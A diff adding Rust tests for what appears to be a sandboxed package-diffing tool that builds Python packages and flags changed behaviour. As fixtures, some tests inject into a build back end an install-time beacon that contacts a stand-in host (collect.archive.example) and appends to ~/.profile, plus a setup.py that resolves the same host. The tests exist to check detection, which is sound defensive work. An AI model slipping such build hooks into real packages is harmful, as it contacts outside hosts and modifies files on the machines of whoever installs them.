@@ -386,3 +386,95 @@ fn a_line_that_every_interpreter_start_executes_is_found_at_start() {
         "{report:#}"
     );
 }
+
+/// Writes a Python folder with its build.
+fn python(context: &Context, folder: &str, version: &str, files: &[(&str, &str)]) {
+    let project = format!(
+        "[project]\nname = \"built-server\"\nversion = \"{version}\"\ndependencies = []\n\
+         [project.scripts]\nbuilt-server = \"built_server:main\"\n"
+    );
+    context.write(&format!("{folder}/built_server.py"), PYTHON);
+    context.write(&format!("{folder}/pyproject.toml"), &project);
+    for (name, text) in files {
+        let name = format!("{folder}/{name}");
+        let all = match name.ends_with("pyproject.toml") {
+            true => format!("{project}{text}"),
+            false => (*text).to_owned(),
+        };
+        context.write(&name, &all);
+    }
+}
+
+/// A back end without any needs that makes a wheel of the one module.
+const BACK_END: &str = r#"
+import zipfile
+
+def build_wheel(to, config_settings=None, metadata_directory=None):
+    name, info = "built_server-1.0-py3-none-any.whl", "built_server-1.0.dist-info"
+    files = {
+        f"{info}/METADATA": "Metadata-Version: 2.1\nName: built-server\nVersion: 1.0\n",
+        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        f"{info}/entry_points.txt": "[console_scripts]\nbuilt-server = built_server:main\n",
+        f"{info}/RECORD": "",
+        "built_server.py": open("built_server.py").read().replace('"done"', '"built"'),
+    }
+    with zipfile.ZipFile(f"{to}/{name}", "w") as wheel:
+        for path, text in files.items():
+            wheel.writestr(path, text)
+    return name
+"#;
+
+const SYSTEM: &str =
+    "[build-system]\nrequires = []\nbuild-backend = \"back\"\nbackend-path = [\"tools\"]\n";
+
+#[test]
+fn a_build_back_end_of_the_folder_s_own_runs_in_the_sandbox() {
+    let context = Context::apart();
+    let files = [("pyproject.toml", SYSTEM), ("tools/back.py", BACK_END)];
+    python(&context, "old", "1.0", &files);
+    python(&context, "new", "1.0", &files);
+    let report = diff(&context, "--fail-on change").ended(0).json();
+    assert_eq!(report["exercise"]["calls_ok"], 4, "{report:#}");
+
+    // What it built is what is started, and what it does besides is seen.
+    let beacon = "import os, urllib.request\n\
+        urllib.request.urlopen('https://collect.archive.example/b')\n\
+        open(os.path.expanduser('~/.profile'), 'a').write('x')\n";
+    let other = format!("{beacon}{}", BACK_END.replace("\"built\"", "\"other\""));
+    let files = [
+        ("pyproject.toml", SYSTEM),
+        ("tools/back.py", other.as_str()),
+    ];
+    python(&context, "new", "1.0", &files);
+    let report = diff(&context, "").ended(1).json();
+    let [result] = findings(&report, "result-changed")[..] else {
+        panic!("{report:#}")
+    };
+    assert_eq!(result["was"], "`built`");
+    assert_eq!(result["now"], "`other`");
+    let sent = finding(&report, "new-destination", "built-server");
+    assert_eq!(sent["phase"], "install");
+    assert_eq!(sent["package"]["script"], "build");
+    assert_eq!(sent["effect"]["peer"]["host"], "collect.archive.example");
+    assert_eq!(
+        finding(&report, "new-file", "built-server")["severity"],
+        "suspicious"
+    );
+}
+
+#[test]
+fn a_setup_script_that_is_added_is_told_and_run() {
+    let context = Context::apart();
+    python(&context, "old", "1.0", &[]);
+    let setup = "import socket, setuptools\n\
+        socket.getaddrinfo('collect.archive.example', 443)\n\
+        setuptools.setup(py_modules=['built_server'])\n";
+    python(&context, "new", "1.0", &[("setup.py", setup)]);
+    let report = diff(&context, "").ended(1).json();
+    let added = finding(&report, "install-script-added", "built-server");
+    assert_eq!(added["package"]["script"], "build");
+    assert!(!spots(&report).contains("failed"), "{report:#}");
+    let sent = finding(&report, "new-destination", "built-server");
+    assert_eq!(sent["effect"]["name"], "collect.archive.example");
+    assert_eq!(report["exercise"]["calls_ok"], 4, "{report:#}");
+}
